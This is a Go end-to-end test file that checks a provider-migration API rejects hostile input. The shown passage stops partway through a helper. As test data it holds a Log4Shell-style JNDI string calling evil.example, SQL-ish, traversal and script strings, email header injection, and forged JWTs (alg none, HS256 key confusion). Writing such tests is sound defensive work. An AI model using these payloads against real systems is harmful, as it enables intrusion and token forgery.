package e2e

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/golang-jwt/jwt/v5"
	"golang.org/x/net/html"

	"github.com/partnercloud/azure/cmd/localcloud/internal/cloud"
	"github.com/partnercloud/azure/cmd/localcloud/internal/jwtissuer"
)

// The hostile-input suite runs on a cloud of its own ("hostile"), at real
// time (scale 1). It compares the whole DynamoDB table before and after the
// bad requests and ignores nothing, so nothing else may write meanwhile:
//
//   - On the shared "standard" cloud (time scale 2000) every open migration's
//     AwaitConsent task times out every ConsentPollSeconds/2000 = 43 s and the
//     invitation function runs again (task token, reminders), and other
//     tests of this package leave migrations open. Go runs top-level tests in
//     source order, each non-parallel one to its end before the next starts,
//     and parallel ones only once every sequential one has returned; so a
//     sequential test in an earlier file (api_test.go, existing_test.go)
//     would still run before this one and could leave such writers behind.
//   - At scale 1 nothing is due for a day: no poll, reminder or expiry fires
//     while the batch runs, and the cloud serves this test alone.
//
// The test does not call t.Parallel.
func init() {
	cloudConfigs["hostile"] = struct {
		scale     float64
		overrides map[string]string
	}{1, nil}
}

// hostileCase is one bad request and the exact answer it must get.
type hostileCase struct {
	name    string
	method  string
	path    string // path and query, already escaped as they go on the wire
	token   string
	body    any // nil, string or []byte (sent as is)
	headers []string
	status  int
	// code is the JSON error code; empty for the HTML consent routes.
	code string
	// html: the route answers with an HTML page.
	html bool
	// heading, for an HTML page, is the text its <h1> must hold.
	heading string
	// noEcho are strings of the input that must not appear in the body.
	noEcho []string
}

// hostileInternalMarkers must never appear in an answer: stack traces, Go or SDK
// error text, paths.
var hostileInternalMarkers = []string{
	"goroutine ", "panic", "runtime error", ".go:", "stacktrace", "operation error", "dynamodb", "conditionalcheck",
	"exception", "apperr", "invalid character", "json: ", "/tmp/", "/home/", "/work/", "nil pointer", "unmarshal",
}

func TestHostileInputs(t *testing.T) {
	e := cloudFor(t, "hostile")
	fx := hostileSetup(t, e)
	cases := hostileCases(t, e, fx)
	if len(cases) < 60 {
		t.Fatalf("only %d hostile cases", len(cases))
	}

	before := e.hostileWaitQuiet(t)
	t.Logf("table before the batch: %d items", len(before))

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := e.hostileSend(t, c.method, c.path, c.token, c.body, c.headers...)
			c.check(t, r)
		})
	}
	t.Run("raw CR in Idempotency-Key", func(t *testing.T) { e.rawHeaderInjection(t, fx.admin) })
	t.Run("replays", func(t *testing.T) { e.hostileReplays(t, fx) })
	t.Run("concurrent", func(t *testing.T) { e.hostileConcurrent(t, fx) })
	t.Run("tampered ID tokens", func(t *testing.T) { e.hostileIDTokens(t, fx) })

	after := hostileScan(t, e)
	hostileDiffTables(t, before, after)

	// Leave nothing open behind (the cloud is this test's alone).
	if r := e.call(t, "POST", "/providers/"+fx.openID+"/cancel", fx.admin, nil); r.status != 200 {
		t.Errorf("cancel the open provider afterwards: %d %s", r.status, r.raw)
	}
	t.Logf("%d table-driven hostile cases, plus raw header injection, replays and concurrent requests", len(cases))
}

// hostileFixture is what the setup made before the batch.
type hostileFixture struct {
	account               string
	admin, user, operator string
	otherAdmin, otherUser string // acct-eligible, another account
	ineligible            string // acct-not-billable, admin
	keys                  *hostileIssuerKey
	expiredAdmin          string
	expiredOperator       string

	declinedID, declinedName string
	declinedInvitation       string // its invitation id (from the link)
	declinedCallback         string // the callback URL Microsoft redirected to
	declinedHeading          string
	unusedDeclinedState      string // a state of the declined invitation, never used
	openID, openName         string
	openInvitation           string
	openState                string            // a valid, unused state of the open invitation
	openBState               string            // a valid, unused sign-in state of a second open invitation
	codeOfA                  string            // a sign-in callback (code and state) of the open invitation, never visited
	redeemedCallback         string            // a sign-in callback visited once: its code was redeemed
	tamperCallbacks          map[string]string // by tamper: sign-in callbacks of the second invitation, never visited
	idemKey                  string            // the Idempotency-Key the declined provider was created with
}

func hostileSetup(t *testing.T, e *env) *hostileFixture {
	t.Helper()
	stamp := time.Now().Format("150405.000")
	fx := &hostileFixture{account: "acct-hostile-" + strings.ReplaceAll(stamp, ".", "")}
	fx.operator = e.token(t, "acct-partner-ops", "operator")
	r := e.call(t, "PUT", "/accounts/"+fx.account, fx.operator, map[string]any{
		"name": "Hostile Org", "billable": true, "reseller": false, "resellerCustomer": false, "usOffice": true, "demo": false, "internal": false})
	if r.status != 200 {
		t.Fatalf("PUT the fresh account: %d %s", r.status, r.raw)
	}
	fx.admin = e.token(t, fx.account, "admin")
	fx.user = e.token(t, fx.account)
	fx.otherAdmin = e.token(t, "acct-eligible", "admin")
	fx.otherUser = e.token(t, "acct-eligible")
	fx.ineligible = e.token(t, "acct-not-billable", "admin")
	fx.keys = hostileLoadIssuerKey(t, e)
	iss, err := jwtissuer.Load(filepath.Join(e.c.StateDir(), cloud.KeyFile))
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range []struct {
		dst   *string
		roles []string
	}{{&fx.expiredAdmin, []string{"admin"}}, {&fx.expiredOperator, []string{"operator"}}} {
		c := cloud.UserClaims(fx.account, x.roles)
		c.TTL = -time.Hour
		if *x.dst, err = iss.Sign(c); err != nil {
			t.Fatal(err)
		}
	}

	// A provider the administrator declined: its execution has ended.
	fx.declinedName = "Hostile declined " + stamp
	fx.idemKey = "hostile-" + stamp
	r = e.call(t, "POST", "/providers", fx.admin, migrate(fx.declinedName, ownedSub), "Idempotency-Key", fx.idemKey)
	if r.status != 202 {
		t.Fatalf("create: %d %s", r.status, r.raw)
	}
	fx.declinedID = r.json["id"].(string)
	m := e.waitMessage(t, contosoAdmin, "approve moving", fx.declinedName, 30*time.Second)
	link := e.consentLink(t, m)
	fx.declinedInvitation = strings.TrimPrefix(link, e.api+"/consent/")
	landing := e.fetch(t, "GET", link, nil)
	if landing.status != 200 {
		t.Fatalf("landing: %d %s", landing.status, landing.text())
	}
	first := e.microsoftLink(t, landing)
	fx.unusedDeclinedState = hostileStateOf(t, e.microsoftLink(t, e.fetch(t, "GET", link, nil)))
	result := e.signIn(t, first, contosoAdmin, "decline")
	if result.status != 200 || !strings.HasPrefix(result.url.String(), e.api+"/consent/callback?") {
		t.Fatalf("decline: %d at %s: %s", result.status, result.url, result.text())
	}
	fx.declinedCallback = result.url.String()
	fx.declinedHeading = hostileHeading(result)
	e.waitStatus(t, fx.admin, fx.declinedID, "declined", 30*time.Second)

	// An open provider: invitation sent, resent once (so the next is 429),
	// and a valid state its landing page issued.
	fx.openName = "Hostile open " + stamp
	fx.openID = e.create(t, fx.admin, migrate(fx.openName, ownedSub))
	m = e.waitMessage(t, contosoAdmin, "approve moving", fx.openName, 30*time.Second)
	link = e.consentLink(t, m)
	fx.openInvitation = strings.TrimPrefix(link, e.api+"/consent/")
	e.waitFor(t, fx.admin, fx.openID, 30*time.Second, "invitation recorded", func(p providerView) bool {
		return p.Status == "pending_consent" && strings.Contains(p.NextStep, "expires on")
	})
	fx.openState = hostileStateOf(t, e.microsoftLink(t, e.fetch(t, "GET", link, nil)))
	if r := e.call(t, "POST", "/providers/"+fx.openID+"/resend", fx.user, nil); r.status != 202 {
		t.Fatalf("resend: %d %s", r.status, r.raw)
	}

	// Sign-in responses: the open invitation's administrator signs in once
	// (its code redeemed, the tenant held), and Microsoft issues codes that
	// are never used, some for a second open invitation.
	e.holdContoso(t)
	landingA := e.fetch(t, "GET", link, nil)
	fx.codeOfA = e.signInCallbackURL(t, landingA, contosoAdmin, "accept")
	fx.redeemedCallback = e.signInCallbackURL(t, landingA, contosoAdmin, "accept")
	if pg := e.fetch(t, "GET", fx.redeemedCallback, nil); pg.status != 200 || !strings.HasPrefix(pg.url.String(), e.ep["microsoft"]) {
		t.Fatalf("the open invitation's sign-in: %d at %s: %s", pg.status, pg.url, pg.text())
	}
	openB := "Hostile open B " + stamp
	e.create(t, fx.admin, migrate(openB, ownedSub))
	m = e.waitMessage(t, contosoAdmin, "approve moving", openB, 30*time.Second)
	landingB := e.fetch(t, "GET", e.consentLink(t, m), nil)
	fx.openBState = hostileStateOf(t, e.microsoftLink(t, landingB))
	fx.tamperCallbacks = map[string]string{}
	for _, how := range []string{"audience", "signature", "nonce", "issuer", "expired"} {
		fx.tamperCallbacks[how] = e.signInCallbackURL(t, landingB, contosoAdmin, "accept")
	}
	return fx
}

// hostileIDTokens redeems sign-in codes while the Microsoft double spoils
// the ID tokens it issues: each is refused as not valid, and (checked by
// the caller's table scan) nothing changes.
func (e *env) hostileIDTokens(t *testing.T, fx *hostileFixture) {
	t.Cleanup(func() { e.setIDTokenTamper(t, "") })
	for how, u := range fx.tamperCallbacks {
		t.Run(how, func(t *testing.T) {
			e.setIDTokenTamper(t, how)
			pg := e.fetch(t, "GET", u, nil)
			if pg.status != 400 || !strings.Contains(pg.text(), "This sign-in response is not valid") {
				t.Fatalf("ID token spoiled by %s: %d %s", how, pg.status, pg.text())
			}
		})
	}
}

// setIDTokenTamper sets how the Microsoft double spoils ID tokens.
func (e *env) setIDTokenTamper(t *testing.T, how string) {
	t.Helper()
	body := strings.NewReader(`{"tamper":"` + how + `"}`)
	resp, err := e.http.Post(e.ep["microsoft"]+"/_control/idtoken", "application/json", body)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("POST /_control/idtoken %q: %d", how, resp.StatusCode)
	}
}

// hostileQueryOf is the query of a URL.
func hostileQueryOf(t *testing.T, raw string) url.Values {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u.Query()
}

func hostileStateOf(t *testing.T, microsoftURL string) string {
	t.Helper()
	u, err := url.Parse(microsoftURL)
	if err != nil {
		t.Fatal(err)
	}
	s := u.Query().Get("state")
	if s == "" {
		t.Fatalf("no state in %s", microsoftURL)
	}
	return s
}

// hostileCases is the table. Ids and tokens come from the setup.
func hostileCases(t *testing.T, e *env, fx *hostileFixture) []hostileCase {
	t.Helper()
	k := fx.keys
	esc := url.PathEscape
	qesc := url.QueryEscape
	valid := func() map[string]any { return migrate("Hostile new "+time.Now().Format("150405.000"), ownedSub) }
	jsonOf := func(v any) string { b, _ := json.Marshal(v); return string(b) }
	withField := func(field string, v any) string {
		b := valid()
		b[field] = v
		return jsonOf(b)
	}
	const (
		sqlish   = "' OR 1=1 --"
		tmplish  = "{{.}}"
		jndi     = "${jndi:ldap://evil.example/a}"
		trav     = "..%2F..%2Fetc%2Fpasswd"
		script   = "<script>alert(1)</script>"
		rtl      = "\u202e"
		zwj      = "\u200d"
		unusedID = "prv_01j00000000000000000000000" // well formed, never made
	)
	pad := func(n int) string { return strings.Repeat("a", n) }
	big := func(n int) string { // a valid body grown past n bytes by its name
		b := valid()
		b["name"] = pad(n)
		return jsonOf(b)
	}
	deepArrays := `{"name":` + strings.Repeat("[", 10000) + strings.Repeat("]", 10000) + `}`
	deepObjects := strings.Repeat(`{"a":`, 10000) + "1" + strings.Repeat("}", 10000)
	accountBody := func(extra map[string]any) string {
		b := map[string]any{"billable": true, "reseller": false, "resellerCustomer": false, "usOffice": true, "demo": false, "internal": false}
		for kk, v := range extra {
			b[kk] = v
		}
		return jsonOf(b)
	}
	sub := func(i int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012x", i) }
	manySubs := make([]string, 101)
	for i := range manySubs {
		manySubs[i] = sub(i + 1)
	}
	tampered := hostileTamper(fx.admin)
	otherKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signWith := func(method jwt.SigningMethod, key any, claims jwt.MapClaims) string {
		tok := jwt.NewWithClaims(method, claims)
		tok.Header["kid"] = "local-cloud"
		s, err := tok.SignedString(key)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	claims := func(mut func(jwt.MapClaims)) jwt.MapClaims {
		c := k.claims(fx.account, "admin")
		if mut != nil {
			mut(c)
		}
		return c
	}
	algNone := signWith(jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, claims(nil))
	otherKeyTok := signWith(jwt.SigningMethodES256, otherKey, claims(nil))
	pub, _ := x509.MarshalPKIXPublicKey(&k.key.PublicKey)
	hsConfusion := signWith(jwt.SigningMethodHS256, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pub}), claims(nil))
	signed := func(mut func(jwt.MapClaims)) string { return signWith(jwt.SigningMethodES256, k.key, claims(mut)) }
	noSub := signed(func(c jwt.MapClaims) { delete(c, "sub") })
	noAccount := signed(func(c jwt.MapClaims) { delete(c, "account_id") })
	blankSub := signed(func(c jwt.MapClaims) { c["sub"] = "   " })
	hashAccount := signed(func(c jwt.MapClaims) { c["account_id"] = fx.account + "#PROVIDER#" + fx.declinedID })
	longAccount := signed(func(c jwt.MapClaims) { c["account_id"] = pad(200) })
	nulAccount := signed(func(c jwt.MapClaims) { c["account_id"] = fx.account + "\x00" })
	wrongIss := signed(func(c jwt.MapClaims) { c["iss"] = "https://evil.example/issuer" })
	wrongAud := signed(func(c jwt.MapClaims) { c["aud"] = "someone-else" })
	noExp := signed(func(c jwt.MapClaims) { delete(c, "exp") })
	future := signed(func(c jwt.MapClaims) { c["nbf"] = time.Now().Add(time.Hour).Unix() })
	accountArray := signed(func(c jwt.MapClaims) { c["account_id"] = []string{fx.account} })
	accountFlat := signed(func(c jwt.MapClaims) { c["account_id"] = "[" + fx.account + "]" })
	accountESC := signed(func(c jwt.MapClaims) { c["account_id"] = fx.account + "\x1b[2J" })
	subObject := signed(func(c jwt.MapClaims) { c["sub"] = map[string]any{"id": "x"} })

	// Consent states: forged in several ways.
	otherStateKey := make([]byte, 32)
	_, _ = rand.Read(otherStateKey)
	forgedState := hostileSignState(otherStateKey, hostileStatePayload(fx.openInvitation))
	payloadB, sigB, _ := strings.Cut(fx.openState, ".")
	payloadA, _, _ := strings.Cut(fx.unusedDeclinedState, ".")
	tamperedSig := payloadB + "." + hostileFlipLast(sigB)
	swapped := payloadA + "." + sigB
	noneState := hostileB64(`{"alg":"none"}`) + "." + hostileB64(jsonOf(hostileStatePayload(fx.openInvitation))) + "."
	unsigned := hostileB64(jsonOf(hostileStatePayload(fx.openInvitation))) + "."
	okQ := func(state string) url.Values {
		return url.Values{"admin_consent": {"True"}, "tenant": {contosoTenant}, "state": {state}}
	}
	with := func(q url.Values, k, v string) url.Values {
		out := url.Values{}
		for kk, vv := range q {
			out[kk] = append([]string(nil), vv...)
		}
		if v == "" {
			out.Del(k)
		} else {
			out.Set(k, v)
		}
		return out
	}
	invalidResp := "This sign-in response is not valid"
	badLink := "This link is not valid"

	var cs []hostileCase
	add := func(c hostileCase) { cs = append(cs, c) }
	jsonCase := func(name, method, path, token string, body any, status int, code string, headers ...string) {
		add(hostileCase{name: name, method: method, path: path, token: token, body: body, status: status, code: code, headers: headers})
	}
	create := func(name string, body any, status int, code string, headers ...string) {
		jsonCase("POST /providers: "+name, "POST", "/providers", fx.admin, body, status, code, headers...)
	}

	// --- authentication: the gateway's JWT authorizer and the functions' claims checks
	jsonCase("no token", "GET", "/provider-options?type=azure", "", nil, 401, "unauthenticated")
	jsonCase("garbage token", "GET", "/terms", "not.a.jwt", nil, 401, "unauthenticated")
	jsonCase("tampered signature", "GET", "/providers", tampered, nil, 401, "unauthenticated")
	jsonCase("alg none", "GET", "/providers/"+fx.declinedID, algNone, nil, 401, "unauthenticated")
	jsonCase("signed by another ES256 key", "POST", "/providers", otherKeyTok, jsonOf(valid()), 401, "unauthenticated")
	jsonCase("HS256 keyed with the public key", "POST", "/providers/"+fx.openID+"/resend", hsConfusion, nil, 401, "unauthenticated")
	jsonCase("expired token: cancel", "POST", "/providers/"+fx.openID+"/cancel", fx.expiredAdmin, nil, 401, "unauthenticated")
	jsonCase("expired token: put account", "PUT", "/accounts/"+fx.account, fx.expiredOperator, accountBody(nil), 401, "unauthenticated")
	jsonCase("expired token: create", "POST", "/providers", fx.expiredAdmin, jsonOf(valid()), 401, "unauthenticated")
	jsonCase("wrong issuer", "GET", "/terms", wrongIss, nil, 401, "unauthenticated")
	jsonCase("wrong audience", "GET", "/providers", wrongAud, nil, 401, "unauthenticated")
	jsonCase("no exp", "GET", "/providers", noExp, nil, 401, "unauthenticated")
	jsonCase("not yet valid", "GET", "/terms", future, nil, 401, "unauthenticated")
	jsonCase("Basic scheme", "GET", "/terms", "", nil, 401, "unauthenticated", "Authorization", "Basic dXNlcjpwYXNz")
	jsonCase("empty bearer", "GET", "/providers", "", nil, 401, "unauthenticated", "Authorization", "Bearer ")
	jsonCase("no sub claim", "GET", "/terms", noSub, nil, 401, "unauthenticated")
	jsonCase("no account_id claim", "GET", "/providers", noAccount, nil, 401, "unauthenticated")
	jsonCase("no account_id claim: create", "POST", "/providers", noAccount, jsonOf(valid()), 401, "unauthenticated")
	jsonCase("blank sub", "GET", "/provider-options?type=azure", blankSub, nil, 401, "unauthenticated")
	jsonCase("account_id with key separators", "GET", "/providers/"+fx.declinedID, hashAccount, nil, 401, "unauthenticated")
	jsonCase("account_id of 200 characters", "GET", "/terms", longAccount, nil, 401, "unauthenticated")
	jsonCase("account_id with NUL", "GET", "/providers", nulAccount, nil, 401, "unauthenticated")
	jsonCase("account_id as an array", "GET", "/providers", accountArray, nil, 401, "unauthenticated")
	jsonCase("account_id as a flattened array", "GET", "/terms", accountFlat, nil, 401, "unauthenticated")
	jsonCase("account_id with an ANSI escape", "GET", "/providers", accountESC, nil, 401, "unauthenticated")
	jsonCase("sub as an object", "POST", "/providers/"+fx.openID+"/resend", subObject, nil, 401, "unauthenticated")

	// --- roles
	jsonCase("PUT account without operator", "PUT", "/accounts/"+fx.account, fx.admin, accountBody(nil), 403, "operator_required")
	jsonCase("cancel without admin", "POST", "/providers/"+fx.openID+"/cancel", fx.user, nil, 403, "admin_required")
	jsonCase("create without admin", "POST", "/providers", fx.user, jsonOf(valid()), 403, "admin_required")

	// --- other accounts' ids
	jsonCase("other account: get", "GET", "/providers/"+fx.declinedID, fx.otherUser, nil, 404, "not_found")
	jsonCase("other account: resend", "POST", "/providers/"+fx.openID+"/resend", fx.otherUser, nil, 404, "not_found")
	jsonCase("other account: cancel", "POST", "/providers/"+fx.openID+"/cancel", fx.otherAdmin, nil, 404, "not_found")
	jsonCase("other account: cursor of this account's provider", "GET", "/providers?cursor="+base64.RawURLEncoding.EncodeToString([]byte("ACCOUNT#"+fx.account+"#PROVIDER#"+fx.declinedID)), fx.otherUser, nil, 400, "invalid_request")

	// --- account and state rules
	jsonCase("ineligible account", "POST", "/providers", fx.ineligible, jsonOf(valid()), 422, "ineligible")
	terms := valid()
	delete(terms, "acceptedTerms")
	jsonCase("terms never accepted", "POST", "/providers", fx.otherAdmin, jsonOf(terms), 428, "terms_not_accepted")
	terms = valid()
	terms["acceptedTerms"] = map[string]string{"partner": "2016-01", "microsoft": "2017-08"}
	jsonCase("terms outdated", "POST", "/providers", fx.otherAdmin, jsonOf(terms), 428, "terms_outdated")
	create("name taken (other case)", jsonOf(migrate(strings.ToUpper(fx.declinedName), ownedSub)), 409, "name_taken")
	create("Idempotency-Key reused with another body", jsonOf(valid()), 409, "idempotency_key_reused", "Idempotency-Key", fx.idemKey)
	jsonCase("resend a declined migration", "POST", "/providers/"+fx.declinedID+"/resend", fx.user, nil, 409, "invalid_state")
	jsonCase("cancel a declined migration", "POST", "/providers/"+fx.declinedID+"/cancel", fx.admin, nil, 409, "invalid_state")
	jsonCase("resend within 5 minutes", "POST", "/providers/"+fx.openID+"/resend", fx.user, nil, 429, "too_many_requests")

	// --- POST /providers: malformed JSON and wrong types
	create("empty body", nil, 400, "invalid_request")
	create("white space body", "  \n\t ", 400, "invalid_request")
	create("truncated JSON", `{"name":"x","type":"azure"`, 400, "invalid_request")
	create("trailing comma", `{"name":"x",}`, 400, "invalid_request")
	create("array body", `[]`, 400, "invalid_request")
	create("null body", `null`, 400, "invalid_request")
	create("string body", `"hello"`, 400, "invalid_request")
	create("two objects", jsonOf(valid())+jsonOf(valid()), 400, "invalid_request")
	create("invalid UTF-8", []byte("{\"name\":\"\xff\xfe\",\"type\":\"azure\"}"), 400, "invalid_request")
	create("form-encoded body", "name=x&type=azure", 400, "invalid_request", "Content-Type", "application/x-www-form-urlencoded")
	create("name is a number", withField("name", 12), 400, "invalid_request")
	create("subscriptionIds is a string", withField("subscriptionIds", ownedSub), 400, "invalid_request")
	create("subscriptionIds holds a huge number", withField("subscriptionIds", json.RawMessage("[1e400]")), 400, "invalid_request")
	create("acceptedTerms is an array", withField("acceptedTerms", []string{"2017-08"}), 400, "invalid_request")
	create("option is a boolean", withField("option", true), 400, "invalid_request")
	create("unknown field", withField("isAdmin", true), 400, "invalid_request")
	create("prototype-pollution key", withField("__proto__", map[string]any{"admin": true}), 400, "invalid_request")
	create("10k levels of arrays", deepArrays, 400, "invalid_request")
	create("10k levels of objects", deepObjects, 400, "invalid_request")

	// --- huge bodies
	create("64 KiB + 1", big(64<<10+1), 413, "body_too_large")
	create("5 MB", big(5<<20), 413, "body_too_large")
	create("11 MB (over the gateway's 10 MB)", big(11<<20), 413, "body_too_large")
	jsonCase("PUT account: 70 KiB", "PUT", "/accounts/"+fx.account, fx.operator, accountBody(map[string]any{"name": pad(70 << 10)}), 413, "body_too_large")

	// --- names: 1–100 printable characters
	create("empty name", withField("name", ""), 400, "invalid_request")
	create("101-character name", withField("name", pad(101)), 400, "invalid_request")
	create("name with RTL override", withField("name", "Contoso "+rtl+"gpj.exe"), 400, "invalid_request")
	create("name with zero-width joiner", withField("name", "Con"+zwj+"toso"), 400, "invalid_request")
	create("name with zero-width space", withField("name", "Con\u200btoso"), 400, "invalid_request")
	create("name with BOM", withField("name", "\ufeffContoso"), 400, "invalid_request")
	create("name with NUL", withField("name", "Contoso\x00"), 400, "invalid_request")
	create("name with ANSI escape", withField("name", "\x1b[31mContoso"), 400, "invalid_request")
	create("name with CR/LF", withField("name", "Contoso\r\nBcc: x@evil.example"), 400, "invalid_request")
	create("name with U+2028", withField("name", "Contoso\u2028prod"), 400, "invalid_request")
	create("name with DEL", withField("name", "Contoso\x7f"), 400, "invalid_request")
	create("name with leading space", withField("name", " Contoso"), 400, "invalid_request")
	create("name of white space", withField("name", "   "), 400, "invalid_request")

	// --- emails: one bare address, no CR/LF, at most 254 characters
	create("email with CR/LF header injection", withField("azureAdminEmail", "a@contoso.example\r\nBcc: x@evil.example"), 400, "invalid_request")
	create("email with LF", withField("azureAdminEmail", "a@contoso.example\nX-Injected: 1"), 400, "invalid_request")
	create("email with display name", withField("azureAdminEmail", "Evil <a@contoso.example>"), 400, "invalid_request")
	create("two addresses", withField("azureAdminEmail", "a@contoso.example,b@evil.example"), 400, "invalid_request")
	create("email with NUL", withField("azureAdminEmail", "a\x00@contoso.example"), 400, "invalid_request")
	create("email with RTL override", withField("azureAdminEmail", "a"+rtl+"@contoso.example"), 400, "invalid_request")
	create("email of 255 characters", withField("azureAdminEmail", pad(243)+"@contoso.example"), 400, "invalid_request")
	create("SQL-ish email", withField("azureAdminEmail", sqlish), 400, "invalid_request")
	create("JNDI email", withField("azureAdminEmail", jndi), 400, "invalid_request")
	create("email without domain", withField("azureAdminEmail", "admin@localhost"), 400, "invalid_request")

	// --- other fields
	create("path traversal subscription id", withField("subscriptionIds", []string{"../../etc/passwd"}), 400, "invalid_request")
	create("SQL-ish subscription id", withField("subscriptionIds", []string{sqlish}), 400, "invalid_request")
	create("duplicate subscription ids", withField("subscriptionIds", []string{ownedSub, strings.ToUpper(ownedSub)}), 400, "invalid_request")
	create("101 subscription ids", withField("subscriptionIds", manySubs), 400, "invalid_request")
	create("template-ish type", withField("type", tmplish), 400, "invalid_request")
	create("JNDI option", withField("option", jndi), 400, "invalid_request")
	create("terms version with a newline", withField("acceptedTerms", map[string]string{"partner": "2017-08\n", "microsoft": "2017-08"}), 400, "invalid_request")

	// --- Idempotency-Key: 1 to 128 printable ASCII characters
	create("empty Idempotency-Key", jsonOf(valid()), 400, "invalid_request", "Idempotency-Key", "")
	create("129-character Idempotency-Key", jsonOf(valid()), 400, "invalid_request", "Idempotency-Key", pad(129))
	create("Idempotency-Key with a tab", jsonOf(valid()), 400, "invalid_request", "Idempotency-Key", "a\tb")
	create("non-ASCII Idempotency-Key", jsonOf(valid()), 400, "invalid_request", "Idempotency-Key", "ключ")

	// --- PUT /accounts/{accountId}
	putAcct := func(name, id, body string, status int, code string) {
		jsonCase("PUT account: "+name, "PUT", "/accounts/"+id, fx.operator, body, status, code)
	}
	putAcct("id with #", esc(fx.account+"#PROVIDER#x"), accountBody(nil), 400, "invalid_request")
	putAcct("id with NUL", "acct%00x", accountBody(nil), 400, "invalid_request")
	putAcct("id of 129 characters", pad(129), accountBody(nil), 400, "invalid_request")
	putAcct("id with leading space", "%20"+fx.account, accountBody(nil), 400, "invalid_request")
	putAcct("id with RTL override", esc("acct"+rtl+"x"), accountBody(nil), 400, "invalid_request")
	putAcct("id of a rendered array", esc("["+fx.account+"]"), accountBody(nil), 400, "invalid_request")
	putAcct("traversal id, body without flags", trav, `{}`, 400, "invalid_request")
	putAcct("missing flags", fx.account, `{"name":"Hostile Org"}`, 400, "invalid_request")
	putAcct("flag as string", fx.account, accountBody(map[string]any{"billable": "yes"}), 400, "invalid_request")
	putAcct("unknown field", fx.account, accountBody(map[string]any{"eligible": true}), 400, "invalid_request")
	putAcct("name with control characters", fx.account, accountBody(map[string]any{"name": "Org\x1b[2J"}), 400, "invalid_request")
	putAcct("name with RTL override", fx.account, accountBody(map[string]any{"name": "Org" + rtl}), 400, "invalid_request")
	putAcct("10k levels of arrays", fx.account, `{"name":`+strings.Repeat("[", 10000)+strings.Repeat("]", 10000)+`}`, 400, "invalid_request")
	putAcct("malformed JSON", fx.account, `{"billable":tru}`, 400, "invalid_request")

	// --- GET /providers: limit and cursor
	list := func(name, query string) {
		jsonCase("GET /providers: "+name, "GET", "/providers?"+query, fx.user, nil, 400, "invalid_request")
	}
	list("limit 0", "limit=0")
	list("limit 101", "limit=101")
	list("limit -1", "limit=-1")
	list("limit abc", "limit=abc")
	list("limit 1e2", "limit=1e2")
	list("limit with NUL", "limit=1%00")
	list("garbage cursor", "cursor=!!!")
	list("SQL-ish cursor", "cursor="+qesc(sqlish))
	list("template-ish cursor", "cursor="+qesc(tmplish))
	list("cursor of a traversal", "cursor="+base64.RawURLEncoding.EncodeToString([]byte("PROVIDER#../../etc/passwd")))
	list("cursor of a name item", "cursor="+base64.RawURLEncoding.EncodeToString([]byte("NAME#hostile")))
	list("cursor of 2000 characters", "cursor="+pad(2000))

	// --- GET /provider-options
	opts := func(name, query string) {
		jsonCase("GET /provider-options: "+name, "GET", "/provider-options"+query, fx.user, nil, 400, "invalid_request")
	}
	opts("no type", "")
	opts("type aws", "?type=aws")
	opts("type AZURE", "?type=AZURE")
	opts("type with NUL", "?type=azure%00")
	opts("template-ish type", "?type="+qesc(tmplish))

	// --- ids in paths: traversal, encoded slashes, SQL-ish, template-ish
	for _, id := range []struct{ name, raw string }{
		{"traversal", trav},
		{"dot-dot", "%2e%2e"},
		{"encoded slash", fx.declinedID + "%2Fcancel"},
		{"SQL-ish", esc(sqlish)},
		{"template-ish", esc(tmplish)},
		{"JNDI", esc(jndi)},
		{"NUL", fx.declinedID + "%00"},
		{"upper-cased", strings.ToUpper(fx.declinedID)},
		{"well formed, unknown", unusedID},
	} {
		jsonCase("GET /providers/{id}: "+id.name, "GET", "/providers/"+id.raw, fx.user, nil, 404, "not_found")
	}
	jsonCase("resend: traversal id", "POST", "/providers/"+trav+"/resend", fx.user, nil, 404, "not_found")
	jsonCase("resend: SQL-ish id", "POST", "/providers/"+esc(sqlish)+"/resend", fx.user, nil, 404, "not_found")
	jsonCase("cancel: traversal id", "POST", "/providers/"+trav+"/cancel", fx.admin, nil, 404, "not_found")
	jsonCase("cancel: template-ish id", "POST", "/providers/"+esc(tmplish)+"/cancel", fx.admin, nil, 404, "not_found")
	jsonCase("cancel: unknown id", "POST", "/providers/"+unusedID+"/cancel", fx.admin, nil, 404, "not_found")
	jsonCase("unrouted traversal", "GET", "/providers/x/../../accounts/"+fx.account, fx.user, nil, 404, "not_found")

	// --- GET /consent/{invitationId} (HTML)
	page := func(name, path string, status int, heading string, noEcho ...string) {
		add(hostileCase{name: name, method: "GET", path: path, status: status, html: true, heading: heading, noEcho: noEcho})
	}
	page("landing: traversal", "/consent/"+trav, 404, badLink, "passwd")
	page("landing: script", "/consent/"+esc(script), 404, badLink, script, "alert(1)")
	page("landing: SQL-ish", "/consent/"+esc(sqlish), 404, badLink, sqlish, "1=1")
	page("landing: template-ish", "/consent/"+esc(tmplish), 404, badLink, tmplish)
	page("landing: JNDI", "/consent/"+esc(jndi), 404, badLink, "jndi")
	page("landing: well formed, unknown", "/consent/"+strings.Repeat("A", 43), 404, badLink, strings.Repeat("A", 43))
	page("landing: one character changed", "/consent/"+hostileFlipLast(fx.openInvitation), 404, badLink, hostileFlipLast(fx.openInvitation))
	page("landing: 44 characters", "/consent/"+fx.openInvitation+"A", 404, badLink, fx.openInvitation)
	page("landing: declined invitation", "/consent/"+fx.declinedInvitation, 410, "", fx.declinedInvitation)

	// --- GET /consent/callback (HTML): forged, malformed and foreign state
	callback := func(name string, q any, noEcho ...string) {
		raw, ok := q.(string)
